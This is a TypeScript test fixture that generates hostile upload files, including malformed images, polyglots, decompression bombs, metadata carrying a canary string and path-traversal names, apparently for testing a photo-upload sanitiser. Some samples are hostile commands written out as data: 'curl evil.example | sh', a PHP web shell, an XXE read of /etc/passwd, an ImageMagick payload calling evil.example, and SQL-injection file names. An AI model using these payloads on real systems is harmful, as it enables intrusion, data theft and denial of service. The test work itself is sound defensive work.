// More than two hundred files that somebody might send instead of a photo of a dent. `canary` stands in every place a
// file has for words; nothing that is kept of a picture may hold it.
import { crc32, deflateSync } from 'node:zlib';
import { photograph, turned, zip } from '../support/pictures.ts';

export const canary = 'CANARY-33.9249';

export interface HostileFile {
  what: string;
  name: string;
  type: string;
  content: Buffer;
  /** Kept, once what is foreign is gone; `refused`: by a message at its field; none: either, but nothing in between. */
  fate?: 'cleaned' | 'refused' | 'kept';
}

const bytes = (text: string) => Buffer.from(text, 'latin1');
const signature = bytes('\x89PNG\r\n\x1a\n');
const page = bytes(`<html><body onload="${canary}"><script>alert('${canary}')</script></body></html>`);

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([bytes(type), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
};
const header = (width: number, height: number, [depth, colour, interlaced] = [8, 2, 0]) => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head.set([depth!, colour!, 0, 0, interlaced!], 8);
  return chunk('IHDR', head);
};
const whole = photograph(60, 40);
/** A whole PNG with these chunks after its header. */
const pngWith = (...chunks: Buffer[]) => Buffer.concat([whole.subarray(0, 33), ...chunks, whole.subarray(33)]);

/** A whole JPEG with this segment after its first marker. */
const jpegWith = (jpeg: Buffer, marker: number, data: Buffer) => {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)]);
};
const frameOf = (jpeg: Buffer) => jpeg.findIndex((byte, at) => byte === 0xff && [0xc0, 0xc1, 0xc2].includes(jpeg[at + 1]!));

const otherKinds: [what: string, start: string][] = [
  ['GIF', 'GIF89a\x01\0\x01\0\x80\0\0'],
  ['WebP', 'RIFF\x1a\0\0\0WEBPVP8L'],
  ['BMP', 'BM\x3a\0\0\0\0\0\0\0'],
  ['TIFF, little-endian', 'II*\0\x08\0\0\0'],
  ['TIFF, big-endian', 'MM\0*\0\0\0\x08'],
  ['HEIC', '\0\0\0\x18ftypheic\0\0\0\0'],
  ['AVIF', '\0\0\0\x1cftypavif\0\0\0\0'],
  ['JPEG 2000', '\0\0\0\x0cjP  \r\n\x87\n'],
  ['JPEG XL', '\xff\x0a\xfa\x7f'],
  ['Photoshop', '8BPS\0\x01'],
  ['icon', '\0\0\x01\0\x01\0'],
  ['Windows program', 'MZ\x90\0\x03\0'],
  ['Linux program', '\x7fELF\x02\x01\x01\0'],
  ['Java class', '\xca\xfe\xba\xbe\0\0\0\x34'],
  ['Mac program', '\xcf\xfa\xed\xfe'],
  ['shell script', '#!/bin/sh\ncurl evil.example | sh\n'],
  ['PHP', '<?php system($_GET["c"]); ?>'],
  ['HTML', '<!doctype html><script>alert(1)</script>'],
  ['SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['XML with an entity', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['ZIP', 'PK\x03\x04\x14\0\0\0\x08\0'],
  ['RAR', 'Rar!\x1a\x07\x01\0'],
  ['7z', "7z\xbc\xaf'\x1c"],
  ['gzip', '\x1f\x8b\x08\0'],
  ['Word of old', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
  ['rich text', '{\\rtf1\\ansi}'],
  ['MP4', '\0\0\0\x18ftypmp42'],
  ['MP3', 'ID3\x03\0\0\0'],
  ['PostScript', '%!PS-Adobe-3.0\n'],
  ['ImageMagick script', 'push graphic-context\nfill \'url(https://evil.example/"|id)\'\n'],
  ['shortcut', 'L\0\0\0\x01\x14\x02\0'],
  ['PDF after a word', 'x%PDF-1.7\n%%EOF'],
  ['JPEG after a blank', ' \xff\xd8\xff\xe0'],
  ['PNG after a blank', ' \x89PNG\r\n\x1a\n'],
];

const names = [
  '../../../../etc/cron.d/shop.png',
  '..\\..\\windows\\system32\\shop.png',
  '/etc/passwd',
  'C:\\autoexec.bat',
  'a\r\nX-Injected: 1.png',
  'dent.png\0.html',
  'dent.png.html',
  'dent.html.png',
  '.htaccess',
  'con.png',
  '\u202egnp.exe',
  '<img src=x onerror=alert(1)>.png',
  "'; DROP TABLE attachment; --.png",
  '%00%2e%2e%2f.png',
  `${'a'.repeat(300)}.png`,
  `${'\u{1f4fa}'.repeat(100)}.png`,
  ' . . .png',
  '.png',
  '"; filename="other.exe',
  '\u00e9te\u0301 \u0623\u0644\u0641.png',
];

const marked = (content: Buffer) => Buffer.concat([content, bytes(canary)]);
/** Repeats itself from its seed, so that a file that was found once is found again. */
const noise = (seed: number) => () => (seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0) >>> 8;
const damaged = (content: Buffer, seed: number) => {
  const next = noise(seed);
  const broken = Buffer.from(content);
  for (let hit = 0; hit < 1 + (seed % 12); hit += 1) broken[8 + (next() % (broken.length - 8))] = next() & 0xff;
  return broken;
};

const picture = (what: string, content: Buffer, fate?: HostileFile['fate']): HostileFile => ({ what, name: 'Dent.png', type: 'image/png', content, ...(fate ? { fate } : {}) });

const pngs = (): HostileFile[] => [
  picture('PNG with words', pngWith(chunk('tEXt', bytes(`Comment\0${canary}`))), 'cleaned'),
  picture('PNG with packed words', pngWith(chunk('zTXt', Buffer.concat([bytes('Comment\0\0'), deflateSync(bytes(canary))]))), 'cleaned'),
  picture('PNG with words in a language', pngWith(chunk('iTXt', bytes(`Comment\0\0\0en\0\0${canary}`))), 'cleaned'),
  picture('PNG with XMP', pngWith(chunk('iTXt', bytes(`XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>${canary}</x:xmpmeta>`))), 'cleaned'),
  picture('PNG with EXIF', pngWith(chunk('eXIf', bytes(`MM\0*\0\0\0\x08\0\0${canary}`))), 'cleaned'),
  picture('PNG with a chunk of its own', pngWith(chunk('caNa', page)), 'cleaned'),
  picture('PNG with a page after its end', Buffer.concat([whole, page]), 'cleaned'),
  picture('PNG with a ZIP after its end', Buffer.concat([whole, zip([['canary.txt', bytes(canary)]]), bytes(canary)]), 'cleaned'),
  picture('PNG with a PDF after its end', Buffer.concat([whole, bytes(`%PDF-1.7 ${canary} %%EOF`)]), 'cleaned'),
  picture('PNG with words that unpack to 64 MB', pngWith(chunk('zTXt', Buffer.concat([bytes('Comment\0\0'), deflateSync(Buffer.alloc(64 << 20), { level: 9 })])))),
  picture('PNG with a colour profile that unpacks to 64 MB', pngWith(chunk('iCCP', Buffer.concat([bytes('p\0\0'), deflateSync(Buffer.alloc(64 << 20), { level: 9 })])))),
  picture('PNG with ten thousand chunks', pngWith(...Array.from({ length: 10_000 }, () => chunk('tEXt', bytes(`a\0${canary}`))))),
  picture('PNG with a critical chunk nobody knows', pngWith(chunk('ABCD', bytes(canary)))),
  picture('PNG with two headers', pngWith(header(9_000, 9_000))),
  picture('PNG without pixels', Buffer.concat([signature, header(60, 40), chunk('IEND', Buffer.alloc(0))]), 'refused'),
  picture('PNG without an end', whole.subarray(0, -12)),
  picture('PNG of no size', Buffer.concat([signature, header(0, 0), whole.subarray(33)]), 'refused'),
  picture('PNG of more than 50 million pixels', Buffer.concat([signature, header(10_000, 10_000), chunk('IDAT', deflateSync(Buffer.alloc(10_000 * 30_001), { level: 9 })), chunk('IEND', Buffer.alloc(0))]), 'refused'),
  picture('PNG as wide as a number holds', Buffer.concat([signature, header(0x7fffffff, 0x7fffffff), whole.subarray(33)]), 'refused'),
  picture('PNG as wide as no number may be', Buffer.concat([signature, header(0xffffffff, 1), whole.subarray(33)]), 'refused'),
  picture('PNG one pixel high and a million wide', Buffer.concat([signature, header(1_000_000, 1), chunk('IDAT', deflateSync(Buffer.alloc(3_000_001), { level: 9 })), chunk('IEND', Buffer.alloc(0))])),
  picture('PNG with a depth there is not', Buffer.concat([signature, header(60, 40, [7, 2, 0]), whole.subarray(33)]), 'refused'),
  picture('PNG of a colour kind there is not', Buffer.concat([signature, header(60, 40, [8, 5, 0]), whole.subarray(33)]), 'refused'),
  picture('PNG with a palette it does not have', Buffer.concat([signature, header(60, 40, [8, 3, 0]), whole.subarray(33)])),
  picture('PNG interlaced by a word', Buffer.concat([signature, header(60, 40, [8, 2, 1]), whole.subarray(33)])),
  picture('PNG with wrong checksums', damaged(whole, 7)),
  picture('PNG whose chunk is longer than the file', Buffer.concat([whole.subarray(0, 33), Buffer.from([0x7f, 0xff, 0xff, 0xff]), bytes('IDAT')]), 'refused'),
  picture('PNG of its first eight bytes', signature, 'refused'),
];

const jpegs = (jpeg: Buffer): HostileFile[] => {
  const photo = (what: string, content: Buffer, fate?: HostileFile['fate']): HostileFile => ({ what, name: 'Dent.jpg', type: 'image/jpg', content, ...(fate ? { fate } : {}) });
  const exif = (order: 'II' | 'MM') =>
    Buffer.concat([bytes('Exif\0\0'), bytes(order === 'II' ? 'II*\0\x08\0\0\0\x01\0\x25\x88\x04\0\x01\0\0\0\x1a\0\0\0\0\0\0\0' : 'MM\0*\0\0\0\x08\0\x01\x88\x25\0\x04\0\0\0\x01\0\0\0\x1a\0\0\0\0'), bytes(`GPS ${canary}`)]);
  const resized = (width: number, height: number) => {
    const wide = Buffer.from(jpeg);
    wide.writeUInt16BE(height, frameOf(jpeg) + 5);
    wide.writeUInt16BE(width, frameOf(jpeg) + 7);
    return wide;
  };
  const scan = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  return [
    photo('JPEG with a comment', jpegWith(jpeg, 0xfe, bytes(canary)), 'cleaned'),
    photo('JPEG with PHP for a comment', jpegWith(jpeg, 0xfe, bytes(`<?php echo "${canary}"; ?>`)), 'cleaned'),
    photo('JPEG with EXIF and a position, little-endian', jpegWith(jpeg, 0xe1, exif('II')), 'cleaned'),
    photo('JPEG with EXIF and a position, big-endian', jpegWith(jpeg, 0xe1, exif('MM')), 'cleaned'),
    photo('JPEG turned by EXIF', marked(turned(jpeg)), 'cleaned'),
    photo('JPEG with EXIF that points outside', jpegWith(jpeg, 0xe1, bytes(`Exif\0\0MM\0*\xff\xff\xff\xf0${canary}`)), 'cleaned'),
    photo('JPEG with EXIF that points at itself', jpegWith(jpeg, 0xe1, bytes(`Exif\0\0MM\0*\0\0\0\x08\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08${canary}`)), 'cleaned'),
    photo('JPEG with XMP', jpegWith(jpeg, 0xe1, bytes(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${canary}</x:xmpmeta>`)), 'cleaned'),
    photo('JPEG with IPTC', jpegWith(jpeg, 0xed, bytes(`Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20${canary}`)), 'cleaned'),
    photo('JPEG with a colour profile of words', jpegWith(jpeg, 0xe2, bytes(`ICC_PROFILE\0\x01\x01${canary}`))),
    photo('JPEG with a thumbnail of its own', jpegWith(jpeg, 0xe1, Buffer.concat([exif('II'), jpeg, bytes(canary)])), 'cleaned'),
    photo('JPEG with a page after its end', Buffer.concat([jpeg, page]), 'cleaned'),
    photo('JPEG with a ZIP after its end', Buffer.concat([jpeg, zip([['canary.txt', bytes(canary)]]), bytes(canary)]), 'cleaned'),
    photo('JPEG with a program after its end', Buffer.concat([jpeg, bytes(`MZ\x90\0${canary}`)]), 'cleaned'),
    photo('JPEG with a PDF after its end', Buffer.concat([jpeg, bytes(`%PDF-1.7 ${canary} %%EOF`)]), 'cleaned'),
    photo('JPEG that is a phar', Buffer.concat([jpegWith(jpeg, 0xfe, bytes(`<?php __HALT_COMPILER(); ?>${canary}`)), bytes('GBMB')]), 'cleaned'),
    photo('JPEG called a page', marked(jpeg), 'cleaned'),
    photo('two JPEGs, one after the other', Buffer.concat([jpeg, jpegWith(jpeg, 0xfe, bytes(canary))]), 'cleaned'),
    photo('JPEG as large as it can say', resized(65_535, 65_535), 'refused'),
    photo('JPEG as wide as it can say', resized(65_535, 40)),
    photo('JPEG of no size', resized(0, 0), 'refused'),
    photo('JPEG with a thousand scans', Buffer.concat([jpeg.subarray(0, -2), ...Array<Buffer>(1_000).fill(jpeg.subarray(scan, -2)), jpeg.subarray(-2)])),
    photo('JPEG without a picture', Buffer.concat([jpeg.subarray(0, scan), Buffer.from([0xff, 0xd9])]), 'refused'),
    photo('JPEG of its first three bytes', jpeg.subarray(0, 3), 'refused'),
    photo('JPEG whose segment has no length', Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xe1, 0, 0]), jpeg.subarray(2)])),
    photo('JPEG of 4 MB of markers', Buffer.concat([jpeg.subarray(0, 2), Buffer.alloc(4 << 20, 0xff), jpeg.subarray(2)])),
  ];
};

const pdfs = (): HostileFile[] => {
  const document = (what: string, inner: string, fate: HostileFile['fate'] = 'kept'): HostileFile => ({ what, name: 'Proof.pdf', type: 'application/pdf', content: bytes(inner), fate });
  const object = (inner: string) => `%PDF-1.7\n1 0 obj\n<<${inner}>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
  return [
    document('PDF with a script', object('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    document('PDF that starts a program', object('/OpenAction<</S/Launch/F(cmd.exe)>>')),
    document('PDF that sends a form', object('/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>')),
    document('PDF with a file inside', object('/Names<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>')),
    document('PDF that is a page, too', `%PDF-1.7\n<script>alert(1)</script>\n%%EOF\n`),
    document('PDF that is a ZIP, too', `%PDF-1.7\nPK\x03\x04\n%%EOF\n`),
    document('PDF that points at itself', object('/Pages 1 0 R/Kids[1 0 R]')),
    document('PDF cut off', '%PDF-1.7\n1 0 obj\n<<', 'refused'),
    document('PDF with two kilobytes after its end', `${object('')}${'x'.repeat(2_000)}`, 'refused'),
    document('PDF of five letters', '%PDF-', 'refused'),
  ];
};

/** `jpeg` is a whole one of 60 × 40. */
export const hostileFiles = (jpeg: Buffer): HostileFile[] => [
  ...otherKinds.flatMap(([what, start]): HostileFile[] => ['Dent.png', 'Proof.pdf'].map((name) => ({ what: `${what} called ${name}`, name, type: name.endsWith('pdf') ? 'application/pdf' : 'image/png', content: bytes(start + canary), fate: 'refused' }))),
  ...names.map((name): HostileFile => ({ what: `a picture called ${JSON.stringify(name).slice(0, 60)}`, name, type: 'image/png', content: marked(whole), fate: name.includes('\0') ? 'refused' : 'cleaned' })),
  ...pngs(),
  ...jpegs(jpeg),
  ...pdfs(),
  ...Array.from({ length: 24 }, (_, at) => picture(`PNG cut after ${Math.floor((whole.length * at) / 24)} bytes`, whole.subarray(0, Math.max(9, Math.floor((whole.length * at) / 24))))),
  ...Array.from({ length: 24 }, (_, at) => picture(`JPEG cut after ${Math.floor((jpeg.length * at) / 24)} bytes`, jpeg.subarray(0, Math.max(4, Math.floor((jpeg.length * at) / 24))))),
  ...Array.from({ length: 24 }, (_, seed) => picture(`PNG damaged by ${seed + 1}`, damaged(pngWith(chunk('tEXt', bytes(`Comment\0${canary}`))), seed + 1))),
  ...Array.from({ length: 24 }, (_, seed) => picture(`JPEG damaged by ${seed + 1}`, damaged(jpegWith(jpeg, 0xfe, bytes(canary)), seed + 1))),
];
